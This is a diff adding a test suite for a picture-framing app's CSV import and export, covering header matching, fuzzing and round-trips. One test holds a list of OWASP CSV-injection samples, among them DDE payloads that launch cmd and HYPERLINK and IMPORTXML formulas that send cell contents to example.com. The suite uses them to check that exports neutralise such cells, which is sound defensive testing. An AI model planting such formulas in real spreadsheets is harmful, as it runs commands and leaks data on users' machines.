@@ -1,0 +1,265 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { orderBench } from '../../../src/core/bench/orderBench.ts';
+import { workOut } from '../../../src/core/row/workOut.ts';
+import { type ColumnName, columns } from '../../../src/core/show/columns.ts';
+import { readSettings } from '../../../src/core/show/readSettings.ts';
+import type { Row } from '../../../src/core/show/row.ts';
+import { readRows, type RowsOfFile, writeRows } from '../../../src/files/csv.ts';
+import { readColumns } from '../../../src/files/readColumns.ts';
+
+const { settings } = readSettings({ unit: 'mm' });
+const makeId = (place: number, attempt: number) => `made ${place}.${attempt}`;
+
+function read(file: string | Uint8Array): RowsOfFile {
+	const rows = readRows(file, settings, makeId);
+	if ('problem' in rows) throw new Error(rows.problem);
+	return rows;
+}
+const write = (rows: readonly Row[]) => {
+	const results = rows.map((row) => workOut(row, settings));
+	return writeRows({ rows, results, settings, bench: orderBench(rows, results, settings) }, { hasIds: true });
+};
+
+describe('a header in other words', () => {
+	test.each<[header: string, cell: string, column: ColumnName, unit?: string]>([
+		['mat', 'fit', 'mount'],
+		['Mat Width', '600', 'mount width'],
+		['Mount W', '600', 'mount width'],
+		['aperture height', '302', 'window height'],
+		['Opening_W (cm)', '45', 'window width', 'cm'],
+		['image width', '456', 'picture width'],
+		['Image-H', '306', 'picture height'],
+		['Picture Width mm', '456', 'picture width'],
+		['picture width, cm', '45.6', 'picture width', 'cm'],
+		['window height in', '12', 'window height', 'in'],
+		['bottom weight %', '12', 'bottom weight'],
+		['Artist', 'Ilse Tarnow', 'maker'],
+		['No.', '7', 'number'],
+		['Qty', '2', 'copies'],
+		['Notes', 'hung', 'note'],
+		['mat size', '60x45 cm', 'mount'],
+		['paper size', 'A3', 'paper'],
+	])('“%s” over “%s” is %s', (header, cell, column, unit) => {
+		const [row] = read(`${header.includes(',') ? `"${header}"` : header}\t\n${cell}\t\n`).rows;
+		expect(row!.typed).toEqual({ [column]: cell });
+		expect(Object.values(row!.units ?? {})).toEqual(unit === undefined ? [] : [unit]);
+	});
+
+	test.each([
+		['picture size', '60x45 cm', { 'picture width': '60 cm', 'picture height': '45 cm' }],
+		['Image Size (cm)', '45.6 x 30.6', { 'picture width': '45.6', 'picture height': '30.6' }],
+		['aperture', '450 x 300', { 'window width': '450', 'window height': '300' }],
+		['picture', '18 by 12 in', { 'picture width': '18 in', 'picture height': '12 in' }],
+	])('“%s” over “%s” is a size in one column', (header, cell, typed) => {
+		expect(read(`title;${header}\nPier;${cell}\n`).rows[0]!.typed).toEqual({ title: 'Pier', ...typed });
+	});
+
+	test('a size beside its own width is kept as it is, and two words for one column are not guessed', () => {
+		const { rows } = read('picture size,picture width\n60x45,456\n');
+		expect(rows[0]).toMatchObject({ typed: { 'picture width': '456' }, extra: { 'picture size': '60x45' } });
+		expect(readRows('mat width,mount width\n1,2\n', settings, makeId)).toEqual({
+			problem: 'line 1, column mount width: this header stands twice',
+		});
+	});
+
+	test.each(['aperture', 'picture'])('“%s” over what is no size is no size', (header) => {
+		const [row] = read(`title;${header}\nPier;pier.jpg\n`).rows;
+		expect(row).toMatchObject({ typed: { title: 'Pier' }, extra: { [header]: 'pier.jpg' } });
+	});
+});
+
+describe('what is in doubt', () => {
+	test.each([
+		['title,picture width,hue', false],
+		['name,picture width', true],
+		['title,width,height', true],
+		['title,size', true],
+		['mat width,mount width', true],
+		['hue,shade', false],
+	])('%s: %s', (headers, isInDoubt) => {
+		expect(readColumns(`${headers}\nPier,456,306\n`)?.isInDoubt ?? false).toBe(isInDoubt);
+	});
+
+	test('an answer is taken, and with it nothing is in doubt', () => {
+		const text = 'name,width (cm),height (cm)\nPier,45.6,30.6\n';
+		const matching = { name: 'title', 'width (cm)': 'mount width', 'height (cm)': 'none' } as const;
+		expect(readColumns(text, matching)?.isInDoubt).toBe(false);
+		const rows = readRows(text, settings, makeId, { matching });
+		expect('rows' in rows && rows.rows[0]).toMatchObject({
+			typed: { title: 'Pier', 'mount width': '45.6' },
+			units: { 'mount width': 'cm' },
+			extra: { 'height (cm)': '30.6' },
+		});
+	});
+
+	test('a set of headers has one name, in whatever order', () => {
+		const [one, other] = [readColumns('name,width\na,1\n'), readColumns('Width,Name\n1,a\n')];
+		expect(one?.key).toBe(other?.key);
+	});
+});
+
+describe('what stands round the rows', () => {
+	test('title lines above the header are passed over, and said', () => {
+		const { rows, lines, notes } = read('Salt and slate;;\n\nHung in spring;;\ntitle;side;top\nPier;70;\n');
+		expect([rows[0]!.typed, lines]).toEqual([{ title: 'Pier', side: '70' }, [5]]);
+		expect(notes).toEqual([
+			'line 1, above the column names, is passed over: “Salt and slate”',
+			'line 3, above the column names, is passed over: “Hung in spring”',
+		]);
+	});
+
+	test('a first line that names one column is the header where none below names more', () => {
+		expect(read('title\nmaker and title\n').rows[0]!.typed).toEqual({ title: 'maker and title' });
+	});
+
+	test.each(['title\r\nPier\r\n\x1a', 'title\nPier\n\x1a\n', 'title\nPier\x1a'])(
+		'the end mark of old systems in %j',
+		(text) => expect(read(text).rows.map(({ typed }) => typed)).toEqual([{ title: 'Pier' }]),
+	);
+
+	test('progress is told', () => {
+		const told: number[] = [];
+		const text = `title\n${'Pier\n'.repeat(1200)}`;
+		readRows(text, settings, makeId, { onProgress: (done, of) => void told.push(done, of) });
+		expect(told).toEqual([0, 1200, 250, 1200, 500, 1200, 750, 1200, 1000, 1200]);
+	});
+});
+
+/** What spreadsheets run, as OWASP lists it under "CSV injection": the signs, and well-known cells that begin with them. */
+const formulas = [
+	'=1+1',
+	'+1+1',
+	'-1+1',
+	'@SUM(1+1)',
+	'\t=1+1',
+	'\r=1+1',
+	"=cmd|' /C calc'!A0",
+	'=HYPERLINK("http://example.com?leak="&A1,"open")',
+	'=DDE("cmd";"/C calc";"!A0")',
+	"-2+3+cmd|' /C calc'!A0",
+	'=IMPORTXML(CONCAT("http://example.com/?v=",A1),"//a")',
+	'＝1+1',
+	'＋1+1',
+	'－1+1',
+	'＠SUM(1+1)',
+	"'=1+1",
+];
+
+test.each(formulas)('%j is neutral in the file, quoted or not, and comes back as it was', (formula) => {
+	const rows: Row[] = [{ id: 'a', order: 1, typed: { title: formula, note: formula }, extra: { [formula]: formula } }];
+	const written = write(rows);
+	// What a spreadsheet takes for the text of a cell: what stands in its quotes, or all of it.
+	const cells = [...written.matchAll(/(?:^|[,\r\n])(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
+		([, quoted, bare]) => quoted ?? bare ?? '',
+	);
+	const isRun = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-\d/.test(cell);
+	expect(cells.filter(isRun)).toEqual([]);
+	const [row] = read(written).rows;
+	expect(row).toMatchObject({ typed: { title: formula, note: formula } });
+	expect(Object.values(row!.extra ?? {})).toEqual([formula]);
+});
+
+/** A tenth of what a soak tries. */
+const numRuns = process.env.EVENHANG_SOAK === '1' ? 5000 : 500;
+
+const oddities = [
+	'"',
+	'""',
+	',',
+	';',
+	'\t',
+	'|',
+	'\n',
+	'\r\n',
+	'\r',
+	"'",
+	'=',
+	'\x1a',
+	'\ufeff',
+	' ',
+	'sep=;',
+	'\0',
+	'１',
+];
+const word = fc.oneof(
+	fc.constantFrom(...columns.map(({ name }) => name as string), 'width', 'mat size', 'result side (mm)', 'x (cm)'),
+	fc.string({ maxLength: 6 }),
+	fc.constantFrom('456', '45,6', '60x45 cm', '2 5/8', 'A3', ...formulas),
+);
+const junk = fc.array(fc.oneof(word, fc.constantFrom(...oddities)), { maxLength: 60 }).map((parts) => parts.join(''));
+
+describe('fuzzed files', () => {
+	test('never a throw, whatever the text', () =>
+		fc.assert(
+			fc.property(junk, (text) => {
+				const rows = readRows(text, settings, makeId);
+				const looked = readColumns(text);
+				expect('rows' in rows || /^line \d+, column .+: /s.test(rows.problem)).toBe(true);
+				expect(looked === undefined || looked.columns.length > 0).toBe(true);
+			}),
+			{ numRuns },
+		));
+
+	test('never a throw, whatever the bytes', () =>
+		fc.assert(
+			fc.property(fc.uint8Array({ maxLength: 200 }), fc.boolean(), (bytes, isHeaded) => {
+				const file = isHeaded ? new Uint8Array([...new TextEncoder().encode('title,note\n'), ...bytes]) : bytes;
+				const rows = readRows(file, settings, makeId);
+				expect('rows' in rows || rows.problem !== '').toBe(true);
+			}),
+			{ numRuns },
+		));
+
+	/** Cells of a table as a program would write it, in each of the usual ways. */
+	const table = fc.record({
+		cells: fc.array(
+			fc.array(fc.oneof(word, fc.string({ unit: 'grapheme', maxLength: 5 })), { minLength: 3, maxLength: 3 }),
+			{
+				minLength: 1,
+				maxLength: 8,
+			},
+		),
+		delimiter: fc.constantFrom(',', ';', '\t', '|'),
+		lineEnd: fc.constantFrom('\n', '\r\n', '\r'),
+		above: fc.constantFrom('', 'Spring show', 'A list, made by hand'),
+	});
+	test('never a lost row, and each cell as it was', () =>
+		fc.assert(
+			fc.property(table, ({ cells, delimiter, lineEnd, above }) => {
+				const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
+				const lines = [['title', 'note', 'hue'], ...cells].map((line) => line.map(quoted).join(delimiter));
+				const { rows } = read([...(above === '' ? [] : [quoted(above)]), ...lines].join(lineEnd) + lineEnd);
+				const unguarded = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);
+				const filled = cells
+					.map((line) => line.map(unguarded))
+					.filter((line) => line.some((cell) => cell.trim() !== ''));
+				const shown = (cell: string | undefined) => (cell?.trim() ? cell : '');
+				expect(rows.map(({ typed, extra }) => [typed.title, typed.note, extra?.['hue']].map(shown))).toEqual(
+					filled.map((line) => line.map(shown)),
+				);
+			}),
+			{ numRuns },
+		));
+
+	const anyRow = fc.record({
+		typed: fc
+			.dictionary(fc.constantFrom(...columns.map(({ name }) => name)), word, { maxKeys: 6 })
+			.map((cells) => Object.fromEntries(Object.entries(cells).filter(([, text]) => text.trim() !== ''))),
+		extra: fc.dictionary(fc.string({ minLength: 1, maxLength: 5 }), word, { maxKeys: 2 }),
+	});
+	test('what is written and read is written the same again', () =>
+		fc.assert(
+			fc.property(fc.array(anyRow, { minLength: 1, maxLength: 6 }), (cells) => {
+				const rows = cells.map(({ typed, extra }, at): Row => ({ id: `r${at}`, order: at + 1, typed, extra }));
+				const once = readRows(write(rows), settings, makeId);
+				if ('problem' in once) return; // an id that is no id, say: told, not thrown
+				expect(once.rows).toHaveLength(rows.length);
+				const again = read(write(once.rows));
+				expect(again.rows.map(({ typed, extra }) => [typed, extra])).toEqual(
+					once.rows.map(({ typed, extra }) => [typed, extra]),
+				);
+			}),
+			{ numRuns: numRuns / 5 },
+		));
+});
